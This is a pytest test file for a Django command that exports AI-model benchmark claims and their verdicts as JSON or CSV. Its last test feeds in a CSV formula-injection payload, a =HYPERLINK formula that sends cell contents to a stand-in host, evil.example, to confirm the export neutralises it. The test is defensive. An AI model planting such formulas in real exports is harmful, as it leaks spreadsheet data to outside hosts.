"""`manage.py export_claims`: every published claim with its current verdict, as JSON or CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from releases.models import Claim, GapScore
from releases.scoring import METHOD_VERSION
from releases.services.gap_scores import gap_scores_recompute
from tests.factories import (
    BenchmarkFactory,
    ClaimFactory,
    MeasurementFactory,
    ReleaseFactory,
    SourceFactory,
    VariantFactory,
    VendorFactory,
)

KEYS = [
    "id",
    "release",
    "variant",
    "benchmark",
    "kind",
    "stated",
    "unit",
    "conditions",
    "verdict",
    "gap",
    "z",
    "flags",
    "explanation",
    "method_version",
    "measurements",
]


def export(*args: str) -> str:
    out, err = io.StringIO(), io.StringIO()
    call_command("export_claims", *args, stdout=out, stderr=err)
    return out.getvalue()


@pytest.fixture
def scored(db):  # type: ignore[no-untyped-def]
    """A tiny catalogue, scored by the real recompute: Maverick's GPQA Diamond claim, Epoch's run."""
    vendor = VendorFactory(name="Meta", slug="meta")
    release = ReleaseFactory(vendor=vendor, name="Llama 4 Maverick", slug="llama-4-maverick")
    variant = VariantFactory(
        release=release, name="Llama 4 Maverick (instruction tuned)", slug="maverick-instruct"
    )
    gpqa = BenchmarkFactory(slug="gpqa-diamond", name="GPQA Diamond")
    claim = ClaimFactory(
        release=release,
        variant=variant,
        benchmark=gpqa,
        stated_value=69.8,
        conditions={"shots": 0, "metric": "accuracy"},
    )
    measurement = MeasurementFactory(
        source=SourceFactory(slug="epoch", evaluator="Epoch AI"),
        snapshot__source=SourceFactory(slug="epoch", evaluator="Epoch AI"),
        benchmark=gpqa,
        raw_model_name="Llama-4-Maverick-17B-128E-Instruct-FP8",
        variant=variant,
        value=66.9823232323,
        std_error=2.824482353,
        as_of=dt.date(2025, 4, 8),
        evaluator="Epoch AI",
    )
    gap_scores_recompute(as_of=dt.date(2025, 4, 10))
    return claim, measurement


def test_json_is_a_list_of_objects_with_exactly_the_export_keys(scored) -> None:  # type: ignore[no-untyped-def]
    rows = json.loads(export())
    assert isinstance(rows, list) and len(rows) == 1
    assert list(rows[0]) == KEYS


def test_json_gives_the_claim_and_its_current_score(scored) -> None:  # type: ignore[no-untyped-def]
    claim, measurement = scored
    current = GapScore.objects.get(claim=claim, is_current=True)
    (row,) = json.loads(export("--format", "json"))
    assert row == {
        "id": claim.id,
        "release": "llama-4-maverick",
        "variant": "maverick-instruct",
        "benchmark": "gpqa-diamond",
        "kind": "benchmark_score",
        "stated": 69.8,
        "unit": "percent",
        "conditions": {"shots": 0, "metric": "accuracy"},
        "verdict": "holds",
        "gap": pytest.approx(69.8 - 66.9823232323),
        "z": pytest.approx(current.z),
        # Epoch ran the FP8 checkpoint; Meta evaluated bf16 (issue 14, point 5).
        "flags": ["conditions_mismatch", "single_source", "precision_differs"],
        "explanation": current.explanation,
        "method_version": METHOD_VERSION,
        "measurements": [measurement.id],
    }
    assert row["explanation"].startswith("Meta claimed 69.8% on GPQA Diamond")


def test_csv_has_a_header_and_flattened_values(scored) -> None:  # type: ignore[no-untyped-def]
    claim, measurement = scored
    reader = csv.reader(io.StringIO(export("--format", "csv")))
    header, *rows = list(reader)
    assert header == KEYS
    (row,) = rows
    values = dict(zip(header, row, strict=True))
    assert values["id"] == str(claim.id)
    assert values["verdict"] == "holds"
    assert values["flags"] == "conditions_mismatch;single_source;precision_differs"
    assert values["measurements"] == str(measurement.id)
    assert json.loads(values["conditions"]) == {"shots": 0, "metric": "accuracy"}
    assert values["conditions"] == '{"metric":"accuracy","shots":0}'
    assert float(values["gap"]) == pytest.approx(69.8 - 66.9823232323)
    assert values["method_version"] == METHOD_VERSION


def test_a_claim_without_a_score_exports_with_a_null_verdict(db) -> None:  # type: ignore[no-untyped-def]
    claim = ClaimFactory()
    (row,) = json.loads(export())
    assert row["id"] == claim.id
    assert row["verdict"] is None
    assert row["gap"] is None and row["flags"] is None and row["measurements"] is None
    (csv_row,) = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
    assert csv_row["verdict"] == ""
    assert csv_row["flags"] == ""


def test_drafts_and_old_scores_are_left_out(db) -> None:  # type: ignore[no-untyped-def]
    ClaimFactory(status=Claim.Status.DRAFT, citation=None, quote="")
    published = ClaimFactory()
    for verdict, current in (("overstated", False), ("holds", True)):
        GapScore.objects.create(
            claim=published,
            method_version="1.0",
            computed_at=timezone.now(),
            as_of=dt.date(2025, 4, 10),
            verdict=verdict,
            flags=["single_source"],
            measurement_ids=[3, 5],
            explanation=f"{verdict}.",
            is_current=current,
        )
    rows = json.loads(export())
    assert [(r["id"], r["verdict"], r["measurements"]) for r in rows] == [
        (published.id, "holds", [3, 5])
    ]
    (csv_row,) = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
    assert csv_row["measurements"] == "3;5"


def test_a_comparison_claim_has_no_benchmark_or_unit(db) -> None:  # type: ignore[no-untyped-def]
    ClaimFactory(kind=Claim.Kind.COMPARISON, benchmark=None, stated_value=None, stated_text="")
    (row,) = json.loads(export())
    assert (row["kind"], row["benchmark"], row["unit"], row["stated"]) == (
        "comparison",
        None,
        None,
        None,
    )


def test_output_writes_a_file(scored, tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "claims.csv"
    assert export("--format", "csv", "--output", str(path)) == ""
    header = path.read_text(encoding="utf-8").splitlines()[0]
    assert header.split(",") == KEYS


def test_an_unknown_format_is_a_command_error(db) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(CommandError, match="unknown --format 'xml'"):
        export("--format", "xml")


def test_an_unwritable_output_is_a_command_error(db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(CommandError, match="cannot write"):
        export("--output", str(tmp_path / "missing" / "claims.json"))


def add_scored_claims(count: int) -> None:
    for _ in range(count):
        claim = ClaimFactory()
        GapScore.objects.create(
            claim=claim,
            method_version="1.0",
            computed_at=timezone.now(),
            as_of=dt.date(2025, 4, 10),
            verdict="unverified",
            explanation="unverified.",
        )


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_the_number_of_queries_does_not_grow_with_the_claims(fmt: str) -> None:
    add_scored_claims(2)
    with CaptureQueriesContext(connection) as few:
        export("--format", fmt)
    add_scored_claims(18)
    with CaptureQueriesContext(connection) as many:
        output = export("--format", fmt)
    assert len(many) == len(few) <= 2
    expected = 20 if fmt == "json" else 21
    assert len(json.loads(output) if fmt == "json" else output.splitlines()) == expected


def test_csv_neutralises_a_formula_in_a_vendor_name_and_keeps_a_negative_gap_a_number(
    db,  # type: ignore[no-untyped-def]
) -> None:
    # The vendor's name opens the explanation sentence; the claim understates (negative gap).
    vendor = VendorFactory(name='=HYPERLINK("https://evil.example/?"&A1,"Meta")', slug="evil")
    release = ReleaseFactory(vendor=vendor, name="Llama 4 Maverick", slug="llama-4-maverick")
    variant = VariantFactory(release=release, slug="maverick-instruct")
    gpqa = BenchmarkFactory(slug="gpqa-diamond", name="GPQA Diamond")
    ClaimFactory(release=release, variant=variant, benchmark=gpqa, stated_value=60.0)
    MeasurementFactory(benchmark=gpqa, variant=variant, value=66.9823232323, std_error=2.8)
    gap_scores_recompute(as_of=dt.date(2025, 4, 10))

    (row,) = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
    (json_row,) = json.loads(export("--format", "json"))

    assert json_row["explanation"].startswith("=HYPERLINK")  # JSON is not a spreadsheet
    assert row["explanation"] == "'" + json_row["explanation"]
    assert row["gap"] == str(json_row["gap"])
    assert row["gap"].startswith("-") and float(row["gap"]) == pytest.approx(60.0 - 66.9823232323)
